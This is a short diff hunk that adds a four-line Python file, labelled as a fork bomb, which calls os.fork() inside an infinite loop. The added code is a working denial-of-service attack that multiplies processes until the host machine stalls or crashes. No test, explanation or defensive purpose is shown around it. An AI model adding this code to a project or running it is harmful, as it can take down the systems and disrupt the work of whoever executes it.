@@ -1,0 +1,4 @@
+# Fork bomb.
+import os
+while True:
+    os.fork()
